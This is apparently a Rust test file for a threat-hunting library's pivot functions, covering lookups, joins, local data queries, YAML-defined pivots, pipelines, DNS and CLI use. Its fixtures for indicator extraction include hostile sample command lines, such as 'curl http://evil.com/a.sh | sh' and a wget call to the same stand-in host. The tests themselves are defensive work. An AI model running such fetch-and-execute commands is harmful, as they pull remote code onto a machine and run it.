//! Pivot functions through the public API: listing and counts, every input
//! kind, every join kind, query pivots over LocalData, user functions from
//! code and YAML, pipelines, DNS against a server on 127.0.0.1, bad input.

use crate::dns_support;
use crate::pivot_support;

use huntbook::entities::{EntityType, PivotRegistration};
use huntbook::error::PolarsContext;
use huntbook::prelude::*;
use pivot_support::{bundled_pivot, cells, col};

fn local() -> QueryProvider {
    QueryProvider::local_data_from(&[huntbook::data::bundled(
        "msticpy/testdata-converted/localdata",
    )
    .unwrap()])
    .unwrap()
}

fn counts(piv: &Pivot) -> Vec<(String, u32)> {
    let c = piv.list(None).counts().unwrap();
    let e = cells(&c, "entity");
    let n: Vec<u32> = c
        .column("pivots")
        .unwrap()
        .u32()
        .unwrap()
        .iter()
        .map(|v| v.unwrap())
        .collect();
    e.into_iter().zip(n).collect()
}

#[test]
fn pivot_counts_per_entity_type() {
    let mut piv = bundled_pivot();
    let expect_builtin = [
        ("Host", 2),
        ("IpAddress", 5),
        ("Url", 3),
        ("Dns", 4),
        ("Process", 2),
        ("File", 1),
        ("FileHash", 1),
    ];
    assert_eq!(
        counts(&piv),
        expect_builtin.map(|(e, n)| (e.to_string(), n))
    );
    assert_eq!(piv.list(None).len(), 18);
    assert_eq!(piv.add_provider(&local()).unwrap(), 12);
    let expect = [
        ("Host", 10),
        ("Account", 2),
        ("IpAddress", 7),
        ("Url", 3),
        ("Dns", 4),
        ("Process", 2),
        ("File", 1),
        ("FileHash", 1),
    ];
    assert_eq!(counts(&piv), expect.map(|(e, n)| (e.to_string(), n)));
    assert_eq!(
        IpAddress::pivots(&piv).names(),
        [
            "LocalData.list_azure_network_flows_by_ip",
            "LocalData.list_signins_for_ip",
            "geoip.lookup",
            "ti.lookup_ip",
            "util.asn",
            "util.ip_type",
            "util.reverse_dns",
        ]
    );
    // Adding the same provider again replaces its container.
    assert_eq!(piv.add_provider(&local()).unwrap(), 12);
    assert_eq!(piv.list(None).len(), 30);
    let df = piv.list(Some(EntityType::Account)).df().unwrap();
    assert_eq!(
        cells(&df, "function"),
        [
            "LocalData.list_logons_by_account",
            "LocalData.list_signins_for_account"
        ]
    );
    assert_eq!(cells(&df, "input"), ["Name", "Name"]);
    assert_eq!(
        cells(&df, "source")[1],
        "query: LocalData Azure.list_signins_for_account"
    );
    let html = piv.list(Some(EntityType::IpAddress)).to_html();
    assert!(html.contains("7 pivot functions"), "{html}");
}

#[test]
fn input_kinds_value_list_entity_frame() {
    let piv = bundled_pivot();
    // One value.
    let one = piv.run("IpAddress", "util.ip_type", "10.0.0.1").unwrap();
    assert_eq!(cells(&one, "IpAddress"), ["10.0.0.1"]);
    assert_eq!(cells(&one, "IpType"), ["Private"]);
    // A list (duplicates looked up once, order kept).
    let list = piv
        .run(
            "IpAddress",
            "util.ip_type",
            vec!["8.8.8.8", "127.0.0.1", "8.8.8.8", "nope"],
        )
        .unwrap();
    assert_eq!(cells(&list, "IpAddress"), ["8.8.8.8", "127.0.0.1", "nope"]);
    assert_eq!(cells(&list, "IpType"), ["Public", "Loopback", "Invalid"]);
    // An entity, and a typed struct.
    let ip = IpAddress::new("51.255.107.37");
    let ti = piv.run("IpAddress", "ti.lookup_ip", &ip).unwrap();
    assert_eq!(cells(&ti, "Ioc"), ["51.255.107.37"]);
    assert_eq!(col(&ti, "Result"), [Some("true".into())]);
    assert_eq!(cells(&ti, "Provider"), ["LocalFeed"]);
    let e: Entity = Host::new("web01.contoso.com").into();
    let c = piv
        .run(EntityType::Host, "util.dns_components", &e)
        .unwrap();
    assert_eq!(cells(&c, "Name"), ["web01.contoso.com"]);
    assert_eq!(
        (
            cells(&c, "subdomain"),
            cells(&c, "domain"),
            cells(&c, "suffix")
        ),
        (
            vec!["web01".to_string()],
            vec!["contoso".to_string()],
            vec!["com".to_string()]
        )
    );
    // A frame and a column.
    let df =
        df!("SourceIP" => ["81.2.69.142", "10.1.1.1", "81.2.69.142"], "n" => [1i64, 2, 3]).unwrap();
    let geo = piv
        .run("IpAddress", "geoip.lookup", (&df, "SourceIP"))
        .unwrap();
    assert_eq!(cells(&geo, "IpAddress"), ["81.2.69.142", "10.1.1.1"]);
    assert_eq!(cells(&geo, "City"), ["London", "∅"]);
    assert_eq!(cells(&geo, "IpType"), ["Public", "Private"]);
    // Typed path.
    let t = piv.ip_address().ip_type(vec!["::1"]).unwrap();
    assert_eq!(cells(&t, "IpType"), ["Loopback"]);
    let u = piv
        .url()
        .components("https://user@evil.com:8443/x?q=1#f")
        .unwrap();
    assert_eq!(cells(&u, "host"), ["evil.com"]);
    assert_eq!(cells(&u, "port"), ["8443"]);
    let asn = piv.ip_address().asn("1.128.0.1").unwrap();
    assert_eq!(cells(&asn, "Asn"), ["1221"]);
    assert_eq!(cells(&asn, "AsnOrganization"), ["Telstra Pty Ltd"]);
}

#[test]
fn every_join_kind_with_msticpy_suffixes() {
    let piv = bundled_pivot();
    let df =
        df!("IpAddress" => ["51.255.107.37", "8.8.8.8", "10.0.0.1"], "Host" => ["a", "b", "c"])
            .unwrap();
    let call = || piv.call("IpAddress", "util.ip_type").unwrap();
    // The key has the same name on both sides: one column.
    let left = call()
        .join(JoinSpec::left())
        .run((&df, "IpAddress"))
        .unwrap();
    let names: Vec<&str> = left.get_column_names().iter().map(|s| s.as_str()).collect();
    assert_eq!(names, ["IpAddress", "Host", "IpType"]);
    assert_eq!(cells(&left, "IpType"), ["Public", "Public", "Private"]);

    // TI: only 51.255.107.37 is in the feed; 10.0.0.1 fails the pre-check.
    let df2 =
        df!("Ip" => ["51.255.107.37", "8.8.8.8", "10.0.0.1"], "Result" => ["x", "y", "z"]).unwrap();
    let ti = || piv.call("IpAddress", "ti.lookup_ip").unwrap();
    let inner = ti().join(JoinSpec::inner()).run((&df2, "Ip")).unwrap();
    assert_eq!(inner.height(), 3);
    let names: Vec<String> = inner
        .get_column_names()
        .iter()
        .map(|s| s.to_string())
        .collect();
    assert!(
        names.contains(&"Result_src".to_string()) && names.contains(&"Result_res".to_string()),
        "{names:?}"
    );
    assert_eq!(cells(&inner, "Result_src"), ["x", "y", "z"]);
    assert_eq!(cells(&inner, "Result_res"), ["true", "false", "false"]);
    assert_eq!(cells(&inner, "Ip"), cells(&inner, "Ioc"));

    // A result with fewer rows than the input: left keeps every input row,
    // inner only the matches, right every result row, outer both.
    let small = df!("Ip" => ["51.255.107.37", "1.1.1.1"]).unwrap();
    let reg = PivotRegistration::new(EntityType::IpAddress, "custom", "known", "Address")
        .output_key("ip")
        .function(|_v: &[String]| {
            df!("ip" => ["51.255.107.37", "9.9.9.9"], "tag" => ["c2", "dns"]).ctx("test result")
        });
    let mut piv2 = bundled_pivot();
    piv2.register(reg).unwrap();
    let run = |j: JoinSpec| {
        piv2.call("IpAddress", "custom.known")
            .unwrap()
            .join(j)
            .run((&small, "Ip"))
            .unwrap()
    };
    let i = run(JoinSpec::inner());
    assert_eq!(
        (cells(&i, "Ip"), cells(&i, "tag")),
        (vec!["51.255.107.37".to_string()], vec!["c2".to_string()])
    );
    let l = run(JoinSpec::left());
    assert_eq!(cells(&l, "Ip"), ["51.255.107.37", "1.1.1.1"]);
    assert_eq!(cells(&l, "tag"), ["c2", "∅"]);
    let r = run(JoinSpec::right());
    assert_eq!(cells(&r, "ip"), ["51.255.107.37", "9.9.9.9"]);
    assert_eq!(cells(&r, "Ip"), ["51.255.107.37", "∅"]);
    let o = run(JoinSpec::outer());
    assert_eq!(cells(&o, "Ip"), ["51.255.107.37", "1.1.1.1", "∅"]);
    assert_eq!(cells(&o, "ip"), ["51.255.107.37", "∅", "9.9.9.9"]);
    // Explicit keys and case-insensitive matching.
    let upper = df!("Addr" => ["51.255.107.37"]).unwrap();
    let res = piv2
        .call("IpAddress", "custom.known")
        .unwrap()
        .join(
            JoinSpec::inner()
                .left_on("Addr")
                .right_on("ip")
                .ignore_case(true),
        )
        .run((&upper, "Addr"))
        .unwrap();
    assert_eq!(cells(&res, "tag"), ["c2"]);
}

#[test]
fn row_index_join_for_extracted_iocs() {
    let piv = bundled_pivot();
    let procs = df!(
        "CommandLine" => ["curl http://evil.com/a.sh | sh", "notepad.exe", "ping 8.8.8.8"],
        "pid" => [1i64, 2, 3]
    )
    .unwrap();
    let j = piv
        .call("Process", "util.extract_iocs")
        .unwrap()
        .join(JoinSpec::left())
        .run((&procs, "CommandLine"))
        .unwrap();
    assert!(
        !j.get_column_names()
            .iter()
            .any(|c| c.as_str() == "src_row_index")
    );
    let obs = cells(&j, "Observable");
    let pid = cells(&j, "pid");
    assert!(obs.contains(&"http://evil.com/a.sh".to_string()), "{obs:?}");
    assert!(obs.contains(&"8.8.8.8".to_string()));
    let notepad = pid.iter().position(|p| p == "2").unwrap();
    assert_eq!(obs[notepad], "∅");
    let inner = piv
        .call("Process", "util.extract_iocs")
        .unwrap()
        .join(JoinSpec::inner())
        .run((&procs, "CommandLine"))
        .unwrap();
    assert!(!cells(&inner, "pid").contains(&"2".to_string()));
}

#[test]
fn query_pivots_over_local_data_use_the_timespan() {
    let mut piv = bundled_pivot();
    piv.add_provider(&local()).unwrap();
    let host = Host::new("MSTICAlertsWin1");
    let procs = piv
        .run("Host", "LocalData.list_host_processes", &host)
        .unwrap();
    assert_eq!(procs.height(), 25);
    // A list parameter: one query with both addresses.
    let signins = piv
        .run(
            "IpAddress",
            "LocalData.list_signins_for_ip",
            vec!["109.88.218.99", "73.35.204.105"],
        )
        .unwrap();
    assert_eq!(signins.height(), 72);
    // A string parameter run per value (concurrently), results stacked.
    let logons = piv
        .run(
            "Account",
            "list_logons_by_account",
            vec!["MSTICAdmin", "IUSR"],
        )
        .unwrap();
    assert_eq!(logons.height(), 5);
    // The pivot time span is passed as start/end.
    piv.set_timespan("2000-01-01", "2000-01-02").unwrap();
    assert_eq!(
        piv.run("Host", "LocalData.list_host_processes", &host)
            .unwrap()
            .height(),
        0
    );
    assert!(piv.set_timespan("2001-01-02", "2001-01-01").is_err());
    // A query pivot has no key column: a join needs right_on.
    let err = piv
        .call("Host", "LocalData.list_host_processes")
        .unwrap()
        .join(JoinSpec::left())
        .run("x")
        .unwrap_err()
        .to_string();
    assert!(err.contains("join with right_on"), "{err}");
}

#[test]
fn user_functions_from_yaml() {
    let mut piv = bundled_pivot();
    piv.add_provider(&local()).unwrap();
    let names = piv
        .register_yaml_file(huntbook::data::bundled("pivot/user_pivots.yaml").unwrap())
        .unwrap();
    assert_eq!(
        names,
        [
            "IpAddress.custom.signins_from_ip",
            "Process.custom.cmdline_iocs",
            "Url.custom.cmdline_iocs",
            "Host.custom.host_processes"
        ]
    );
    let s = piv
        .run("IpAddress", "custom.signins_from_ip", "73.35.204.105")
        .unwrap();
    assert_eq!(s.height(), 11);
    let i = piv
        .run("Process", "custom.cmdline_iocs", "wget http://evil.com/x")
        .unwrap();
    assert!(cells(&i, "Observable").contains(&"http://evil.com/x".to_string()));
    assert!(
        piv.help("Process", "custom.cmdline_iocs")
            .unwrap()
            .function()
            .source()
            .starts_with("yaml: ")
    );
    // A Python entry fails loudly and registers nothing.
    let before = piv.list(None).len();
    let err = piv
        .register_yaml_str("pivot_providers:\n  x:\n    src_module: msticpy.sectools\n    entity_map: {IpAddress: Address}\n", "bad.yaml")
        .unwrap_err()
        .to_string();
    assert!(err.contains("'src_module' names Python code"), "{err}");
    let err = piv
        .register_yaml_str(
            "pivot_providers:\n  ok:\n    builtin: util.ip_type\n    entity_map: {IpAddress: Address}\n  bad:\n    builtin: util.nope\n    entity_map: {IpAddress: Address}\n",
            "half.yaml",
        )
        .unwrap_err()
        .to_string();
    assert!(err.contains("built-in pivot 'util.nope'"), "{err}");
    assert_eq!(piv.list(None).len(), before);
}

#[test]
fn pipelines_from_code_and_yaml() {
    let piv = bundled_pivot();
    let df =
        df!("SourceIP" => ["51.255.107.37", "10.0.0.1", "81.2.69.142", "51.255.107.37"]).unwrap();
    let p = PivotPipeline::new("triage")
        .pivot(
            EntityType::IpAddress,
            "util.ip_type",
            "SourceIP",
            Some(JoinSpec::left()),
        )
        .tee("typed")
        .step(huntbook::entities::pivot::PivotStep::Filter {
            column: "IpType".into(),
            value: "Public".into(),
            negate: false,
        })
        .pivot(
            EntityType::IpAddress,
            "ti.lookup_ip",
            "SourceIP",
            Some(JoinSpec::inner()),
        )
        .display("TI", Some(10));
    let r = p.run(&piv, &df).unwrap();
    assert_eq!(r.tee("typed").unwrap().height(), 4);
    assert_eq!(
        cells(r.df(), "SourceIP"),
        ["51.255.107.37", "81.2.69.142", "51.255.107.37"]
    );
    assert_eq!(cells(r.df(), "Result"), ["true", "false", "true"]);
    assert_eq!(r.tee_names(), ["typed", "TI"]);
    assert!(r.to_html().contains("<h4>TI</h4>"));

    let yaml =
        std::fs::read_to_string(huntbook::data::bundled("pivot/pipelines.yaml").unwrap()).unwrap();
    let pipes = PivotPipeline::from_yaml_str(&yaml).unwrap();
    assert_eq!(pipes.len(), 1);
    assert_eq!(pipes[0].steps.len(), 6);
    let r = pipes[0].run(&piv, &df).unwrap();
    assert_eq!(cells(r.df(), "SourceIP"), ["51.255.107.37"]);
    assert_eq!(cells(r.df(), "Severity"), ["high"]);
    assert_eq!(r.tee("ip_types").unwrap().height(), 4);
    let err = PivotPipeline::from_yaml_str(
        "pipelines:\n  p:\n    steps:\n      - step_type: pivot_tee_exec\n",
    )
    .unwrap_err()
    .to_string();
    assert!(err.contains("step_type 'pivot_tee_exec'"), "{err}");
}

#[test]
fn dns_pivots_against_a_local_server() {
    let server = dns_support::start();
    let piv = bundled_pivot().with_dns(dns_support::resolver(&server));
    let a = piv
        .dns()
        .resolve(vec!["evil.example", "nope.example"])
        .unwrap();
    assert_eq!(
        cells(&a, "Name"),
        ["evil.example", "evil.example", "nope.example"]
    );
    assert_eq!(cells(&a, "record"), ["192.0.2.10", "192.0.2.11", "∅"]);
    assert_eq!(cells(&a, "response")[2], "NXDOMAIN");
    let ptr = piv.ip_address().reverse_dns("192.0.2.10").unwrap();
    assert_eq!(cells(&ptr, "IpAddress"), ["192.0.2.10"]);
    assert_eq!(cells(&ptr, "record"), ["evil.example."]);
    let joined = piv
        .call("Dns", "util.dns_resolve")
        .unwrap()
        .join(JoinSpec::left())
        .run(Entity::from(Dns::new("evil.example")))
        .unwrap();
    assert_eq!(
        cells(&joined, "DomainName"),
        ["evil.example", "evil.example"]
    );
}

#[test]
fn bad_input_is_a_clear_error() {
    let piv = bundled_pivot();
    let err = piv
        .run("IpAddress", "ti.lookup_ipp", "1.2.3.4")
        .unwrap_err()
        .to_string();
    assert_eq!(
        err,
        "invalid pivot 'ti.lookup_ipp' of IpAddress: not found; did you mean: ti.lookup_ip"
    );
    let err = piv
        .run("IpAddress", "util.url_components", "1.2.3.4")
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("wrong entity type: 'util.url_components' is a pivot of Url"),
        "{err}"
    );
    let host: Entity = Host::new("web01").into();
    let err = piv
        .run("IpAddress", "util.ip_type", &host)
        .unwrap_err()
        .to_string();
    assert_eq!(
        err,
        "invalid input of pivot IpAddress.util.ip_type: wrong entity type: it takes IpAddress entities, entity 0 is a Host (web01)"
    );
    let df = df!("a" => ["x"]).unwrap();
    let err = piv
        .run("IpAddress", "util.ip_type", (&df, "SourceIP"))
        .unwrap_err()
        .to_string();
    assert_eq!(
        err,
        "column 'SourceIP' not found in the input frame of pivot IpAddress.util.ip_type with columns [a]"
    );
    let err = piv
        .run("Nope", "util.ip_type", "x")
        .unwrap_err()
        .to_string();
    assert!(
        err.starts_with(
            "invalid entity type 'Nope': unknown; use one of: Host, Account, IpAddress"
        ),
        "{err}"
    );
    let err = Pivot::empty()
        .run("IpAddress", "ti.lookup_ip", "1.2.3.4")
        .unwrap_err()
        .to_string();
    assert!(err.contains("no threat-intelligence lookup"), "{err}");
    let empty_ip = IpAddress::default();
    let err = piv
        .run("IpAddress", "util.ip_type", &empty_ip)
        .unwrap_err()
        .to_string();
    assert!(err.contains("has no 'Address'"), "{err}");
}

#[test]
fn pivot_new_uses_bundled_fallbacks() {
    let hb = Huntbook::new().unwrap();
    let piv = Pivot::new(&hb).unwrap();
    let ti = piv.ip_address().ti_lookup("51.255.107.37").unwrap();
    assert_eq!(cells(&ti, "Result"), ["true"]);
    let help = piv.help("IpAddress", "geoip.lookup").unwrap();
    assert!(help.to_text().contains("Geolocation of IP addresses"));
}

#[test]
fn cli_list_run_describe_pipeline() {
    use clap::{CommandFactory, Parser};
    use huntbook::cli::{Cli, run};
    Cli::command().debug_assert();
    let dir = std::env::temp_dir().join(format!("hb-pivot-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let out = |name: &str| dir.join(name).display().to_string();
    let go = |args: &[&str]| run(Cli::try_parse_from(args).unwrap());
    go(&[
        "huntbook",
        "pivot",
        "list",
        "IpAddress",
        "-f",
        "csv",
        "-o",
        &out("list.csv"),
    ])
    .unwrap();
    let list = read_file(dir.join("list.csv")).unwrap();
    assert_eq!(list.height(), 7);
    go(&[
        "huntbook",
        "pivot",
        "list",
        "--counts",
        "--no-queries",
        "-f",
        "csv",
        "-o",
        &out("counts.csv"),
    ])
    .unwrap();
    let c = read_file(dir.join("counts.csv")).unwrap();
    assert_eq!(cells(&c, "pivots"), ["2", "5", "3", "4", "2", "1", "1"]);
    go(&[
        "huntbook",
        "pivot",
        "run",
        "IpAddress",
        "util.ip_type",
        "10.0.0.1",
        "8.8.8.8",
        "-f",
        "csv",
        "-o",
        &out("run.csv"),
    ])
    .unwrap();
    let r = read_file(dir.join("run.csv")).unwrap();
    assert_eq!(cells(&r, "IpType"), ["Private", "Public"]);
    let ips = dir.join("ips.csv");
    std::fs::write(&ips, "SourceIP,n\n51.255.107.37,1\n10.0.0.1,2\n").unwrap();
    go(&[
        "huntbook",
        "pivot",
        "run",
        "IpAddress",
        "ti.lookup_ip",
        "--input",
        &ips.display().to_string(),
        "--column",
        "SourceIP",
        "--join",
        "left",
        "--no-queries",
        "-f",
        "csv",
        "-o",
        &out("joined.csv"),
    ])
    .unwrap();
    let j = read_file(dir.join("joined.csv")).unwrap();
    assert_eq!(cells(&j, "n"), ["1", "2"]);
    assert_eq!(cells(&j, "Result"), ["true", "false"]);
    let pipe = huntbook::data::bundled("pivot/pipelines.yaml")
        .unwrap()
        .display()
        .to_string();
    go(&[
        "huntbook",
        "pivot",
        "pipeline",
        &pipe,
        "--input",
        &ips.display().to_string(),
        "--no-queries",
        "-f",
        "csv",
        "-o",
        &out("pipe.csv"),
    ])
    .unwrap();
    assert_eq!(
        cells(&read_file(dir.join("pipe.csv")).unwrap(), "SourceIP"),
        ["51.255.107.37"]
    );
    go(&[
        "huntbook",
        "pivot",
        "describe",
        "IpAddress",
        "geoip.lookup",
        "--no-queries",
        "-f",
        "csv",
        "-o",
        &out("d.csv"),
    ])
    .unwrap();
    assert_eq!(
        cells(&read_file(dir.join("d.csv")).unwrap(), "join_key"),
        ["IpAddress"]
    );
    let err = go(&["huntbook", "pivot", "run", "IpAddress", "util.ip_type"])
        .unwrap_err()
        .to_string();
    assert_eq!(
        err,
        "invalid pivot run: no input: give values or --input FILE --column NAME"
    );
    let _ = std::fs::remove_dir_all(&dir);
}
